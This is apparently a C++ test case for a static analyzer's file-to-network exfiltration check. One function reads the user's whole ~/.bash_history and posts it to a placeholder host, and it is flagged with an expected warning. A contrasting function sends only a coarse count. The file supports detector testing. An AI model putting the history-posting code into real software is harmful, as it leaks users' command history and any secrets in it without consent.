/* C++: what a user typed is read line by line from the folder that is their own, and posted. */
#include <cstdlib>
#include <curl/curl.h>
#include <fstream>
#include <string>

namespace {

class Post {
  public:
    explicit Post(const std::string &url) : curl_(curl_easy_init()), url_(url) {}
    ~Post() {
        curl_easy_cleanup(curl_);
    }
    void send(const std::string &text) const {
        curl_easy_setopt(curl_, CURLOPT_URL, url_.c_str());
        curl_easy_setopt(curl_, CURLOPT_POSTFIELDS, text.c_str());
        // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/file-to-network]}}
        curl_easy_perform(curl_);
    }

  private:
    CURL *curl_;
    std::string url_;
};

std::string home() {
    const char *folder = std::getenv("HOME");
    return folder ? folder : "/";
}

} // namespace

void bad_history() {
    Post post("https://hints.shell-tools.example/learn");
    std::ifstream history(home() + "/.bash_history");
    std::string line, all;
    while (std::getline(history, line))
        all += line + "\n";
    post.send(all);
}

/* The tool's own count goes there. */
void good_history() {
    Post post("https://hints.shell-tools.example/count");
    std::ifstream history(home() + "/.bash_history");
    std::string line;
    unsigned count = 0;
    while (std::getline(history, line))
        count++;
    post.send(count > 1000 ? "many" : "few");
}
